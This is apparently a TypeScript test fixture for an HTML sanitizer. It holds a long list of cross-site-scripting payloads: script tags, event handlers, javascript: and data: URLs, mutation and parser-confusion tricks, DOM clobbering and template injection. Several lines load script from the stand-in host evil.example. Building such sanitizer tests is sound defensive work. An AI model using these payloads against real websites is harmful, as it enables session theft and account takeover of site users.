/**
 * Promises F6: markup that has run scripts somewhere. `BEACON` is what each of them would do; a test gives it a function of
 * its own (`alert(1)` for the wire, a counter in the browser).
 */
const PAYLOADS = `
<script>BEACON</script>
<SCRIPT>BEACON</SCRIPT>
<script src=data:text/javascript,BEACON></script>
<script src=//evil.example/x.js></script>
<script/src="data:text/javascript,BEACON"></script>
<scr<script>ipt>BEACON</scr</script>ipt>
<<script>BEACON//<</script>
<script>BEACON
</script ><script type=module>BEACON</script>
<img src=x onerror=BEACON>
<img src=x onerror="BEACON">
<img src='x' onerror='BEACON'>
<img/src=x/onerror=BEACON>
<img src=x oneRRor=BEACON>
<img src=x onerror
=BEACON>
<img src="x" onerror=&#66;EACON>
<img src=x:BEACON onerror=eval(src)>
<img srcset="x 1x" onerror=BEACON>
<img src=1 onload=BEACON>
<img src="javascript:BEACON">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='BEACON'/>">
<img """><script>BEACON</script>">
<img src=x onerror=BEACON//
<image src=x onerror=BEACON>
<picture><source srcset=x onerror=BEACON><img src=x onerror=BEACON></picture>
<svg onload=BEACON>
<svg/onload=BEACON>
<svg><script>BEACON</script></svg>
<svg><script>&#66;EACON</script></svg>
<svg><script xlink:href=data:,BEACON></script></svg>
<svg><a xlink:href="javascript:BEACON"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=BEACON attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=BEACON>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='BEACON'/></svg>#x"></use></svg>
<svg><foreignObject><iframe src="javascript:BEACON"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=BEACON></style></svg>
<svg><title><img src=x onerror=BEACON></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=BEACON>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=BEACON&gt;">
<math href="javascript:BEACON">x</math>
<math><maction actiontype="statusline#" xlink:href="javascript:BEACON">x</maction></math>
<math><mi//xlink:href="data:x,<script>BEACON</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=BEACON>
<noscript><p title="</noscript><img src=x onerror=BEACON>">
<template><img src=x onerror=BEACON></template>
<body onload=BEACON>
<body onpageshow=BEACON>
<body background="javascript:BEACON">
<html onmouseenter=BEACON>
<iframe src="javascript:BEACON"></iframe>
<iframe srcdoc="<script>parent.BEACON</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.BEACON&gt;"></iframe>
<iframe src="data:text/html,<script>BEACON</script>"></iframe>
<iframe onload=BEACON></iframe>
<frameset onload=BEACON></frameset>
<object data="javascript:BEACON"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="//evil.example/x.html"></object>
<embed src="javascript:BEACON">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<applet code="BEACON"></applet>
<a href="javascript:BEACON">x</a>
<a href="JaVaScRiPt:BEACON">x</a>
<a href=" javascript:BEACON">x</a>
<a href="java	script:BEACON">x</a>
<a href="java&#10;script:BEACON">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;BEACON">x</a>
<a href="&#x6A;avascript&colon;BEACON">x</a>
<a href="javascript&#58;BEACON">x</a>
<a href="\x01javascript:BEACON">x</a>
<a href="vbscript:BEACON">x</a>
<a href="data:text/html,<script>BEACON</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example">x</a>
<a href="/\\evil.example">x</a>
<a href="https:evil.example" ping="https://evil.example">x</a>
<a href="/news" onclick=BEACON>x</a>
<a href="#" onfocus=BEACON autofocus tabindex=1>x</a>
<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+BEACON//'>">x</a>
<p style="background:url(javascript:BEACON)">x</p>
<p style="width:expression(BEACON)">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<div style="-moz-binding:url(//evil.example/x.xml#a)">x</div>
<style>@import 'javascript:BEACON';</style>
<style>*{background:url("javascript:BEACON")}</style>
<style><img src="</style><img src=x onerror=BEACON//">
<link rel=stylesheet href="javascript:BEACON">
<link rel=import href="data:text/html,<script>BEACON</script>">
<link rel=prefetch href=//evil.example onload=BEACON>
<meta http-equiv=refresh content="0;url=javascript:BEACON">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<base href="javascript:BEACON//">
<base href=//evil.example/>
<input onfocus=BEACON autofocus>
<input type=image src=x onerror=BEACON>
<select autofocus onfocus=BEACON><option>x</select>
<textarea autofocus onfocus=BEACON>x</textarea>
<textarea></textarea><img src=x onerror=BEACON>
<button autofocus onfocus=BEACON>x</button>
<button formaction="javascript:BEACON">x</button>
<form action="javascript:BEACON"><input type=submit></form>
<form id=f></form><button form=f formaction="javascript:BEACON">x</button>
<isindex action="javascript:BEACON" type=image>
<keygen autofocus onfocus=BEACON>
<video onerror=BEACON><source></video>
<video src=x onerror=BEACON></video>
<video poster="javascript:BEACON"></video>
<audio src=x onerror=BEACON></audio>
<audio onloadstart=BEACON src=x></audio>
<details open ontoggle=BEACON>x</details>
<dialog open onclose=BEACON>x</dialog>
<marquee onstart=BEACON>x</marquee>
<marquee loop=1 width=0 onfinish=BEACON>x</marquee>
<bgsound src="javascript:BEACON">
<table background="javascript:BEACON"><tr><td background="javascript:BEACON">x</td></tr></table>
<table><td><script>BEACON</script></td></table>
<div onpointerover=BEACON onmouseover=BEACON>x</div>
<div onanimationstart=BEACON style="animation:x">x</div>
<x onclick=BEACON contenteditable autofocus onfocus=BEACON>x</x>
<xss id=x tabindex=1 onactivate=BEACON onfocusin=BEACON>x</xss>
<custom-element onconnectedcallback=BEACON>x</custom-element>
<p id=location name=cookie>x</p>
<img name=getElementById src=/pictures/tap.svg>
<form name=body><input name=attributes></form>
<!--><script>BEACON</script>-->
<!--[if gte IE 4]><script>BEACON</script><![endif]-->
<![CDATA[<script>BEACON</script>]]>
<?xml-stylesheet href="javascript:BEACON"?>
<plaintext><script>BEACON</script>
<xmp><script>BEACON</script></xmp>
<listing>&lt;img onerror=BEACON src=x&gt;</listing>
<b><i><script>BEACON</script></b></i>
&lt;script&gt;BEACON&lt;/script&gt;
<p title="&quot;><script>BEACON</script>">x</p>
{{constructor.constructor('BEACON')()}}
\${BEACON}
`;

export function payloads(beacon: string): string[] {
  return PAYLOADS.trim()
    .split(/\n(?=[<&{$\\])/)
    .map((one) => one.replaceAll('BEACON', beacon).replaceAll('\\x01', '\u0001'));
}
